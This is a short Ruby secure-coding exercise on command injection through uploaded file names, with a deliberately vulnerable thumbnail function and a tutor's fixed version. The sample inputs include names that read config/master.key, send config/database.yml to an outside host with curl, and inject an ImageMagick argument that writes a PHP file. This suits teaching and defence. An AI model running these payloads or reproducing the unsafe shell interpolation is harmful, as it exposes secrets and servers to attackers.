# Exercise 2. Users upload a picture, the app makes a thumbnail.
# params[:name] is the file name given by the browser.

def thumbnail(params)
  name = params[:name]
  `convert uploads/#{name} -resize 120x thumbs/#{name}`
end

# Have the learner predict what the shell sees for each name:
#   cat.png
#   cat.png; cat config/master.key
#   $(curl -d @config/database.yml https://reqcatch.net/b/77).png
#   -write /app/public/x.php

# ---- tutor part ----
require 'securerandom'

def thumbnail_fixed(params)
  ext = File.extname(params[:name]).downcase
  raise ArgumentError unless %w[.png .jpg .jpeg].include?(ext)
  id = SecureRandom.uuid + ext
  system('convert', "uploads/#{id}", '-resize', '120x', "thumbs/#{id}", exception: true)
end
